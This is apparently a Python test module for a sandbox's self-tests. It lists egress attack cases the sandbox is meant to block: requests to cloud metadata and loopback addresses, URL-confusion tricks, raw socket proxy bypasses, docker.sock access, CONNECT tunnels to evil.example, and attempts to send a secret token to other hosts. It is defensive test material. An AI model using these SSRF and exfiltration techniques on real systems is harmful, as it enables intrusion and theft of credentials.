"""Attacks that try to reach other hosts than the granted ones."""

from __future__ import annotations

from engine.sandbox.api.network_spec import Secret
from engine.sandbox.selftest.attack_case import AttackCase, refused

_INTERNAL = {
    "loopback.example.org": "127.0.0.1",
    "metadata.example.org": "169.254.169.254",
    "gateway.example.org": "172.17.0.1",
    "peer.example.org": "10.0.0.1",
    "mapped.example.org": "::ffff:169.254.169.254",
    "local.example.org": "fe80::1",
}
_OPEN = "urllib.request.urlopen({!r}, timeout=5)"

_NETWORK = (
    refused(
        "granted network: internal hosts",
        "a granted name cannot resolve to the host, a peer or a metadata service",
        *(_OPEN.format(f"{scheme}://{name}/") for name in _INTERNAL for scheme in ("http", "https")),
        before="import urllib.request",
    ),
    refused(
        "granted network: other hosts",
        "a grant of one name covers no other name and no address",
        *(
            _OPEN.format(url)
            for url in (
                "http://127.0.0.1/", "http://[::1]/", "http://169.254.169.254/latest/meta-data/",
                "http://localhost:2375/info", "http://2130706433/", "http://0x7f.1/", "http://0/",
                "http://example.org/", "https://example.org/", "http://x.granted.example.org/",
                "http://granted.example.org.evil.example/", "http://granted.example.org:22/",
                "http://granted.example.org@evil.example/",
            )
        ),
        before="import urllib.request",
    ),
    refused(
        "granted network: bypassing the proxy",
        "nothing leaves the sandbox except through the proxy",
        "socket.create_connection(('169.254.169.254', 80), 1)",
        "socket.create_connection(('172.17.0.1', 22), 1)",
        "socket.create_connection(('1.1.1.1', 53), 1)",
        "socket.getaddrinfo('granted.example.org', 80)",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
        "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
    ),
    AttackCase(
        "granted network: tunnels to other hosts",
        "a tunnel carries only TLS for its own host",
        "import socket\n"
        "def through(host, data):\n"
        "    s = socket.create_connection(('127.0.0.1', 3128), 5)\n"
        "    s.sendall(f'CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode() + data)\n"
        "    got = b''\n"
        "    try:\n"
        "        while piece := s.recv(9999): got += piece\n"
        "    except OSError: pass\n"
        "    return got\n"
        "attack = through('loopback.example.org:443', b''), through('evil.example:443', b'x'), "
        "through('127.0.0.1:22', b''), through('granted.example.org:25', b'EHLO x')\n"
        "print('held' if all(b' 403 ' in got.split(b'\\r\\n')[0] for got in attack) else attack)",
    ),
)  # fmt: skip

_SECRET = Secret("SELFTEST_TOKEN", "granted.example.org", "value-of-the-secret")

_SECRETS = AttackCase(
    "secrets sent to other hosts",
    "the guest never has a secret, and its placeholder reaches no other host",
    "import base64, os, urllib.error, urllib.request\n"
    "mark = os.environ['SELFTEST_TOKEN']\n"
    "basic = 'Basic ' + base64.b64encode(b'x:' + mark.encode()).decode()\n"
    "url = 'http://loopback.example.org/'\n"
    "tries = [(url + mark, {}), (url, {'X-Any': mark}), (url, {'Authorization': basic})]\n"
    "got = []\n"
    "for where, headers in tries:\n"
    "    try: got.append(urllib.request.urlopen(urllib.request.Request(where, headers=headers), timeout=5))\n"
    "    except urllib.error.HTTPError as error: got += [] if b'placeholder' in error.read() else [error]\n"
    "print('held' if not got and 'value-of' not in str(os.environ) else got)",
    secrets=(_SECRET,),
)


def _granted(attack: AttackCase) -> AttackCase:
    names = _INTERNAL | {"granted.example.org": "192.0.2.1"}
    return AttackCase(
        attack.name, attack.guarantee, attack.code, attack.ends, names=names, secrets=attack.secrets
    )


EGRESS_ATTACKS = tuple(_granted(attack) for attack in (*_NETWORK, _SECRETS))
